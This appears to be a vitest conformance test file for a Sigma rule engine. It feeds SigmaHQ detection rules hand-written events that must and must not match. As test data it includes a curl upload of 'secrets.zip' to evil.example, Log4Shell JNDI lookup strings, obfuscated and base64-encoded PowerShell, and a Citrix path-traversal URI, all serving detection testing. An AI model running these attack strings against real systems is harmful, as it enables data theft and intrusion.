// Real SigmaHQ rules (tests/conformance/sigmahq) against events written by hand from the Sigma
// specification: each rule has events that must match and near misses that must not.
import { describe, expect, it } from 'vitest';
import { compilePack, runPack } from '../../src/engine/index.ts';
import type { EngineEvent } from '../../src/engine/types.ts';
import { emptyContext, fixture, matching } from './sigmahq-support.ts';

const context = emptyContext('sigma-semantics');

const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const utf16le = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

describe('windash: -, /, en dash, em dash and horizontal bar (certutil_encode)', () => {
  const image = 'C:\\Windows\\System32\\certutil.exe';
  it.each([
    ['-', 'certutil -encode in.txt out.b64'],
    ['/', 'certutil /encode in.txt out.b64'],
    ['en dash', 'certutil \u2013encode in.txt out.b64'],
    ['em dash', 'certutil \u2014encode in.txt out.b64'],
    ['horizontal bar', 'certutil \u2015encode in.txt out.b64'],
    ['upper case', 'CERTUTIL.EXE /ENCODE in.txt out.b64'],
  ])('matches the flag written with %s', (_name, CommandLine) => {
    expect(matching('proc_creation_win_certutil_encode.yml', [{ Image: image, CommandLine }])).toEqual([0]);
  });
  it('near misses: another flag, no dash, an image that only ends in "certutil.exe"', () => {
    const events: EngineEvent[] = [
      { Image: image, CommandLine: 'certutil -decode in.b64 out.txt' },
      { Image: image, CommandLine: 'certutil encode in.txt' },
      { Image: 'C:\\Tools\\mycertutil.exe', CommandLine: 'mycertutil -encode a b' },
      { OriginalFileName: 'CertUtil.exe', CommandLine: 'x \u2012encode' }, // figure dash is not a windash
    ];
    expect(matching('proc_creation_win_certutil_encode.yml', events)).toEqual([]);
  });
  it('OriginalFileName is whole-value, case-insensitive equality', () => {
    const events: EngineEvent[] = [
      { Image: 'C:\\x\\renamed.exe', OriginalFileName: 'certutil.exe', CommandLine: 'r /encode a b' },
      { Image: 'C:\\x\\renamed.exe', OriginalFileName: 'CertUtil.exe.mui', CommandLine: 'r /encode a b' },
    ];
    expect(matching('proc_creation_win_certutil_encode.yml', events)).toEqual([0]);
  });
  it('a dash in the middle of a word is not a flag (whoami " -all")', () => {
    const events: EngineEvent[] = [
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' },
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami \u2014ALL' },
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /groups' },
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami x/all' },
    ];
    expect(matching('proc_creation_win_whoami_all_execution.yml', events)).toEqual([0, 1]);
  });
});

describe('base64offset: the value at each of the three byte offsets (FromBase64String)', () => {
  const script = (prefix: string) =>
    `${prefix}IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgA')))`;
  it.each(['', 'a', 'ab', 'abc'])('matches after a %j prefix', (prefix) => {
    const CommandLine = `powershell.exe -c "${base64(script(prefix))}"`;
    expect(matching('proc_creation_win_powershell_base64_frombase64string.yml', [{ CommandLine }])).toEqual([
      0,
    ]);
  });
  it('matches the UTF-16LE spellings the rule lists', () => {
    const CommandLine = `powershell -enc ${utf16le(script('$x='))}`;
    expect(matching('proc_creation_win_powershell_base64_frombase64string.yml', [{ CommandLine }])).toEqual([
      0,
    ]);
  });
  it('near misses: the plain text, and a different encoded method', () => {
    const events: EngineEvent[] = [
      { CommandLine: script('') },
      { CommandLine: `powershell -c ${base64("[Convert]::ToBase64String('x')")}` },
      { CommandLine: `powershell -c ${base64(':FromBase64String')}` },
    ];
    expect(matching('proc_creation_win_powershell_base64_frombase64string.yml', events)).toEqual([]);
  });
});

describe('re: PCRE as written, with a leading (?i) as the case-insensitive flag', () => {
  it('Invoke-Obfuscation VAR++ (a (?i) regex with escaped quote and braces)', () => {
    const ServiceFileName = 'cmd /c "set x=IEX&&SET y={0}{1}\\" -f a,b&&CMD /C %y%"';
    const events: EngineEvent[] = [
      { EventID: 4697, ServiceFileName },
      { EventID: '4697', ServiceFileName: ServiceFileName.toLowerCase() },
      { EventID: 4697, ServiceFileName: ServiceFileName.replace('{0}{1}', '{0}') },
      { EventID: 4698, ServiceFileName },
    ];
    expect(matching('win_invoke_obfuscation_via_var_services_security.yml', events)).toEqual([0, 1]);
  });
  it('regex alternatives in a list of maps, with an optional filter (five carets)', () => {
    const Image = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const events: EngineEvent[] = [
      { Image, CommandLine: 'powershell i^e^x ^(^n^e' },
      { Image, CommandLine: 'powershell i^e^x ^(^ne' },
      {
        Image,
        CommandLine: 'powershell i^e^x ^(^n^e',
        ParentImage: 'C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe',
      },
      { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd i^e^x ^(^n^e' },
    ];
    expect(matching('proc_creation_win_powershell_cmdline_special_characters.yml', events)).toEqual([0]);
  });
  it('regex is case-sensitive without (?i): curl " -F " but not " -f "', () => {
    const Image = 'C:\\Windows\\System32\\curl.exe';
    const events: EngineEvent[] = [
      { Image, CommandLine: 'curl -F "file=@secrets.zip" https://evil.example/up' },
      { Image, CommandLine: 'curl -f https://evil.example/x' },
      { Image, CommandLine: 'curl -F "file=@a" http://localhost/up' },
    ];
    expect(matching('proc_creation_win_curl_fileupload.yml', events)).toEqual([0]);
  });
});

describe('wildcards and backslashes: "\\cmd.exe" keeps its backslash literal', () => {
  it('Office spawning a shell', () => {
    const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
    const events: EngineEvent[] = [
      { ParentImage: word, Image: 'C:\\Windows\\System32\\cmd.exe' },
      { ParentImage: word.toLowerCase(), Image: 'C:\\WINDOWS\\SYSTEM32\\CMD.EXE' },
      { ParentImage: word, Image: 'C:\\Windows\\System32\\notcmd.exe' },
      { ParentImage: word, Image: 'C:\\Windows\\System32\\cmd.exe.bak' },
      { ParentImage: 'C:\\Windows\\explorer.exe', Image: 'C:\\Windows\\System32\\cmd.exe' },
    ];
    expect(matching('proc_creation_win_office_susp_child_processes.yml', events)).toEqual([0, 1]);
  });
  it('a value ending in a backslash (startswith "C:\\Program Files\\") and contains|all', () => {
    const events: EngineEvent[] = [
      { Image: 'C:\\Tools\\a.exe', ParentImage: 'C:\\Tools\\a.exe' },
      { Image: 'C:\\TOOLS\\A.EXE', ParentImage: 'c:\\tools\\a.exe' },
      { Image: 'C:\\Tools\\a.exe', ParentImage: 'C:\\Tools\\b.exe' },
      { Image: 'C:\\Program Files\\App\\a.exe', ParentImage: 'C:\\Program Files\\App\\a.exe' },
      { Image: 'C:\\Tools\\a.exe' },
    ];
    expect(matching('proc_creation_win_susp_parent_execute_itself.yml', events)).toEqual([0, 1]);
  });
});

describe('escapes exactly as the specification lists them', () => {
  it('"\\\\?.exe" is a backslash then one wildcard character (single-character binaries)', () => {
    const events: EngineEvent[] = [
      { Image: 'C:\\Users\\Public\\r.exe' },
      { Image: 'C:\\Users\\Public\\R.EXE' },
      { Image: 'C:\\Users\\Public\\rr.exe' },
      { Image: 'C:\\Users\\Public\\.exe' },
      { Image: 'C:\\Users\\Public\\ar.exe' },
    ];
    expect(matching('proc_creation_win_single_char_binary_execution.yml', events)).toEqual([0, 1]);
  });
  it('"\\\\\\*" is a plain backslash then a plain asterisk, not a wildcard (ShareName: \\\\\\*\\IPC$)', () => {
    const events: EngineEvent[] = [
      { EventID: 5145, ShareName: '\\*\\IPC$', RelativeTargetName: 'evilpipe' },
      { EventID: 5145, ShareName: '\\\\*\\IPC$', RelativeTargetName: 'evilpipe' },
      { EventID: 5145, ShareName: '\\x\\IPC$', RelativeTargetName: 'evilpipe' },
      { EventID: 5145, ShareName: '\\*\\IPC$', RelativeTargetName: 'srvsvc' },
    ];
    expect(matching('win_lm_namedpipe.yml', events)).toEqual([0]);
  });
});

describe('YAML quoting and Sigma escapes together', () => {
  it("\" 'C:\\\\\" (double-quoted YAML) and ' \\\\\\\\' (single-quoted) keep their backslashes", () => {
    const Image = 'D:\\wscript.exe';
    const events: EngineEvent[] = [
      { Image, CommandLine: 'wscript.exe D:\\invoice.js' },
      { Image, CommandLine: "wscript.exe 'C:\\Users\\a.js'" },
      { Image, CommandLine: 'wscript.exe C:\\Users\\a.js' },
      { Image, CommandLine: 'wscript.exe \\\\share\\a.js' },
      { Image, CommandLine: 'wscript.exe %TEMP%\\a.js' },
    ];
    expect(matching('proc_creation_win_susp_lolbin_non_c_drive.yml', events)).toEqual([0]);
  });
  it('"\\PROTOCOLS\\\\Handler" is one backslash before Handler', () => {
    const Details = '{026CC6D7-34B2-33D5-B551-CA31EB6CE345}';
    const events: EngineEvent[] = [
      { TargetObject: 'HKLM\\SOFTWARE\\Classes\\PROTOCOLS\\Handler\\rogue\\CLSID\\(Default)', Details },
      { TargetObject: 'HKLM\\SOFTWARE\\Classes\\PROTOCOLS\\\\Handler\\rogue\\CLSID', Details },
      { TargetObject: 'HKLM\\SOFTWARE\\Classes\\PROTOCOLS\\Handler\\rogue\\CLSID', Details: '{0}' },
    ];
    expect(matching('registry_set_apt_forest_blizzard_custom_protocol_handler.yml', events)).toEqual([0]);
  });
});

describe('keyword lists with |all: every keyword somewhere in the event', () => {
  it('Juniper BGP missing MD5', () => {
    const events: EngineEvent[] = [
      { message: 'bgp_io: 192.0.2.1:179 missing MD5 digest' },
      { host: 'edge1:179', message: 'TCP MISSING md5 DIGEST from peer' },
      { message: 'bgp_io: 192.0.2.1:179 session reset' },
    ];
    expect(matching('juniper_bgp_missing_md5.yml', events)).toEqual([0, 1]);
  });
});

describe('wide|base64offset: the three variants SigmaHQ documents for "ping"', () => {
  it('cABpAG4AZw, AAaQBuAGcA and wAGkAbgBnA', async () => {
    const { compileFieldItem } = await import('../../src/engine/compile/field-item.ts');
    const { item, problems } = compileFieldItem('CommandLine|wide|base64offset|contains', 'ping');
    expect(problems).toEqual([]);
    for (const variant of ['cABpAG4AZw', 'AAaQBuAGcA', 'wAGkAbgBnA'])
      expect(item?.test({ CommandLine: `powershell -enc xx${variant}yy` })).toBe(true);
    expect(
      item?.test({ CommandLine: `powershell -enc ${Buffer.from('pong', 'utf16le').toString('base64')}` }),
    ).toBe(false);
  });
});

describe('null: an absent or empty field (Active Directory user backdoors)', () => {
  it('not filter_null needs a non-empty value', () => {
    const events: EngineEvent[] = [
      { EventID: 4738, AllowedToDelegateTo: 'cifs/dc1.corp.example' },
      { EventID: 4738, AllowedToDelegateTo: '' },
      { EventID: 4738 },
      { EventID: 4738, AllowedToDelegateTo: null },
      { EventID: 4738, AllowedToDelegateTo: '-' },
      { EventID: 5136, AttributeLDAPDisplayName: 'msDS-AllowedToActOnBehalfOfOtherIdentity' },
      { EventID: 5136, AttributeLDAPDisplayName: 'servicePrincipalName', ObjectClass: 'computer' },
    ];
    expect(matching('win_alert_ad_user_backdoors.yml', events)).toEqual([0, 5]);
  });
  it("an empty-string value matches only the empty field (c-useragent: '')", () => {
    const events: EngineEvent[] = [{ 'c-useragent': '' }, { 'c-useragent': 'curl/8.0' }, {}];
    expect(matching('proxy_ua_empty.yml', events)).toEqual([0]);
  });
});

describe('exists', () => {
  it('exists: false matches only an absent field; exists: true any present one', () => {
    const yaml = (flag: boolean) => ({
      name: 'exists.yml',
      text: `title: t\nid: e-${flag}\ndetection:\n  selection:\n    Image|endswith: '\\cmd.exe'\n  filter:\n    ParentImage|exists: ${flag}\n  condition: selection and filter\n`,
    });
    const events: EngineEvent[] = [
      { Image: 'C:\\Windows\\System32\\cmd.exe' },
      { Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: 'C:\\Windows\\explorer.exe' },
    ];
    for (const flag of [false, true]) {
      const { pack, errors } = compilePack([yaml(flag)]);
      expect(errors).toEqual([]);
      const rule = pack.rules[0];
      expect(events.map((event) => rule?.test({ event, spans: () => [] }))).toEqual([!flag, flag]);
    }
  });
});

describe('cidr (IPv4 and IPv6), contains|all and numbers', () => {
  it('search-ms over WebDAV unless the destination is private', () => {
    const uri = 'search-ms:query=invoice&crumb=location:\\\\evil.example@SSL\\DavWWWRoot\\webdav';
    const events: EngineEvent[] = [
      { 'c-uri': uri, dst_ip: '203.0.113.7' },
      { 'c-uri': uri, dst_ip: '2001:db8::7' },
      { 'c-uri': uri, dst_ip: '10.1.2.3' },
      { 'c-uri': uri, dst_ip: 'fd12:3456::1' },
      { 'c-uri': uri, dst_ip: '::1' },
      { 'c-uri': uri.replace('webdav', 'share'), dst_ip: '203.0.113.7' },
      { 'c-uri': uri.replace('invoice', 'holiday'), dst_ip: '203.0.113.7' },
    ];
    expect(matching('proxy_webdav_search_ms.yml', events)).toEqual([0, 1]);
  });
  it('numbers match numbers or their text; a number in a list of words is its text', () => {
    const events: EngineEvent[] = [
      { dst_port: 21, action: 'accept' },
      { dst_port: '21', action: 'ACCEPT' },
      { dst_port: 23, action: 2 },
      { dst_port: 80, blocked: 'false' },
      { dst_port: 22, action: 'accept' },
      { dst_port: 210, action: 'accept' },
      { dst_port: 21, action: 'deny' },
    ];
    expect(matching('net_firewall_cleartext_protocols.yml', events)).toEqual([0, 1, 2, 3]);
  });
});

describe('keywords: a plain list searches the values of every field', () => {
  it('Log4Shell strings anywhere, case-insensitively, unless the scanner filter matches', () => {
    const events: EngineEvent[] = [
      { 'cs-user-agent': 'Mozilla/5.0 ${jndi:ldap://203.0.113.9/a}' },
      { 'c-uri': '/?x=${JNDI:LDAP://203.0.113.9/a}' },
      { 'c-uri': '/?x=%24%7bjndi:ldap://x' },
      { 'c-uri': '/?x=${jndi:ldap://w.nessus.org/nessus}' },
      { 'c-uri': '/?x=jndi ldap' },
    ];
    expect(matching('web_cve_2021_44228_log4j.yml', events)).toEqual([0, 1, 2]);
  });
});

describe('alerts carry the rule id; logsource.category restricts, a rule without it does not', () => {
  it('a UUID id is the alert rule; a rule with only a name is known by its name', () => {
    const named = {
      name: 'named.yml',
      text: 'title: Named\nname: base_named\ndetection:\n  k:\n    - stack smashing detected\n  condition: k\n',
    };
    const { pack, errors } = compilePack([
      fixture('proc_creation_win_certutil_encode.yml'),
      fixture('lnx_buffer_overflows.yml'),
      named,
    ]);
    expect(errors).toEqual([]);
    const result = runPack(
      pack,
      [
        {
          '@timestamp': '2026-03-02T09:00:00Z',
          'event.id': 'p1',
          'event.category': 'process_creation',
          Image: 'C:\\Windows\\System32\\certutil.exe',
          CommandLine: 'certutil /encode a b',
        },
        {
          '@timestamp': '2026-03-02T09:01:00Z',
          'event.id': 'f1',
          'event.category': 'file',
          Image: 'C:\\Windows\\System32\\certutil.exe',
          CommandLine: 'certutil /encode a b',
        },
        {
          '@timestamp': '2026-03-02T09:02:00Z',
          'event.id': 's1',
          'event.category': 'syslog',
          message: 'kernel: *** stack smashing detected ***: terminated',
        },
      ],
      context,
    );
    expect(result.alerts.map((a) => [a.rule, a.events.join()])).toEqual([
      ['e62a9f0c-ca1e-46b2-85d5-a6da77f86d1a', 'p1'],
      ['18b042f0-2ecd-4b6e-9f8d-aa7a7e7de781', 's1'],
      ['base_named', 's1'],
    ]);
    expect(result.alerts[0]?.severity).toBe('medium');
    expect(result.alerts[1]?.severity).toBe('high');
  });

  it('a rule with neither id nor name is known by its title', () => {
    const { pack, errors } = compilePack([fixture('web_citrix_cve_2019_19781_exploit.yml')]);
    expect(errors).toEqual([]);
    const result = runPack(
      pack,
      [
        {
          '@timestamp': '2026-03-02T09:00:00Z',
          'event.id': 'w1',
          'event.category': 'webserver',
          'c-uri-path': '/vpn/../vpns/portal/scripts/newbm.pl',
        },
        {
          '@timestamp': '2026-03-02T09:00:01Z',
          'event.id': 'w2',
          'event.category': 'webserver',
          'c-uri-path': '/vpns/portal/',
        },
      ],
      context,
    );
    expect(result.alerts.map((a) => [a.rule, a.events.join()])).toEqual([
      ['Citrix Netscaler, Application Delivery Controller and Citrix Gateway Attack CVE-2019-19781', 'w1'],
    ]);
  });

  it('Sigma v1 aggregations load, never alert on single events, and the run names them', () => {
    const { pack, errors, warnings } = compilePack([fixture('net_dns_high_requests_rate.yml')]);
    expect(errors).toEqual([]);
    expect(warnings.map((w) => w.message).join('\n')).toMatch(/timeframe[\s\S]*count\(\) by src_ip > 1000/);
    const event = {
      '@timestamp': '2026-03-02T09:00:00Z',
      'event.category': 'dns',
      query: 'example.com',
      src_ip: '10.0.0.1',
    };
    const result = runPack(pack, [event], context);
    expect(result.alerts).toEqual([]);
    expect(result.unmatchable.map((u) => u.reason)).toEqual([
      expect.stringMatching(/Sigma v1 aggregation "\| count\(\) by src_ip > 1000", which is not evaluated/),
    ]);
  });

  it('the specification correlation example fires on ten failures then a success for one user', () => {
    const { pack, errors } = compilePack([fixture('spec_correlation_failed_logins_then_success.yml')]);
    expect(errors).toEqual([]);
    const at = (s: number) => new Date(Date.UTC(2026, 2, 2, 9, 0, s)).toISOString();
    const failures = (user: string, n: number) =>
      Array.from({ length: n }, (_, i) => ({
        '@timestamp': at(i * 10),
        'event.id': `${user}-f${i}`,
        EventID: 4625,
        User: user,
      }));
    const events: EngineEvent[] = [
      ...failures('bob', 10),
      ...failures('eve', 9),
      { '@timestamp': at(150), 'event.id': 'bob-s', EventID: 4624, User: 'bob' },
      { '@timestamp': at(150), 'event.id': 'eve-s', EventID: 4624, User: 'eve' },
    ];
    const result = runPack(pack, events, context);
    const fired = result.alerts.filter((a) => a.rule === 'b180ead8-d58f-40b2-ae54-c8940995b9b6');
    expect(fired).toHaveLength(1);
    expect(fired[0]?.events).toContain('bob-s');
    expect(fired[0]?.events).not.toContain('eve-s');
  });

  it('a multi-document file with correlations: documents, kinds and ids (spec example)', () => {
    const { pack, errors, counts } = compilePack([
      fixture('spec_correlation_failed_logins_then_success.yml'),
    ]);
    expect(errors).toEqual([]);
    expect(counts).toMatchObject({ rule: 2, correlation: 2 });
    expect(pack.rules.map((r) => r.id).sort()).toEqual([
      '4d0a2c83-c62c-4ed4-b475-c7e23a9269b8',
      '53ba33fd-3a50-4468-a5ef-c583635cfa92',
    ]);
  });

  it('condition as a list is ORed; timeframe, related, fields, tags and falsepositives are accepted', () => {
    const text = `title: list condition
id: 0b8e6f4e-5f0a-4b59-9a3e-1d8f2b7c6a11
related:
    - id: 11111111-2222-3333-4444-555555555555
      type: derived
status: test
tags: [attack.t1059]
fields: [CommandLine]
falsepositives: [Unknown]
logsource: {category: process_creation, product: windows}
detection:
    a:
        CommandLine|contains: alpha
    b:
        CommandLine|contains: beta
    timeframe: 5m
    condition:
        - a
        - b
level: low
`;
    const { pack, errors, warnings } = compilePack([{ name: 'list.yml', text }]);
    expect(errors).toEqual([]);
    expect(warnings.map((w) => w.message).join()).toMatch(/timeframe/);
    const rule = pack.rules[0];
    const events: EngineEvent[] = [
      { CommandLine: 'x alpha' },
      { CommandLine: 'x beta' },
      { CommandLine: 'gamma' },
    ];
    expect(events.map((event) => rule?.test({ event, spans: () => [] }))).toEqual([true, true, false]);
  });
});
